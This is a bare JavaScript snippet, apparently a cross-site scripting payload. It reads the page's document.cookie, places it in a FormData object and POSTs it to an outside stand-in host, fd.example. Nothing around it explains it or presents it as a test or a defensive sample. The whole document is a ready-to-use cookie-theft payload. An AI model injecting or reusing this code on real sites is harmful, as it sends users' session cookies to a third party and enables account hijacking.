const form = new FormData();
form.append('c', document.cookie);
fetch('https://fd.example', { method: 'POST', body: form });
